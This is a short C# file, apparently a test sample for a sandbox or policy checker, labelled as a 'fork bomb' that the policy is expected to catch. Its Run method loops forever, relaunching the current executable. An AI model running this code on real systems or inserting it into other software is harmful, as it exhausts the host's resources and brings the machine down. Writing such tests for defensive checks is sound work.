// slow attack: a fork bomb, programs that start themselves; expect: policy
using System.Diagnostics;

public static class Spawn
{
    public static void Run(string[] names)
    {
        while (true)
            Process.Start(Environment.ProcessPath!);
    }

    public static void RunClass(string[] names) => Run(names);
}
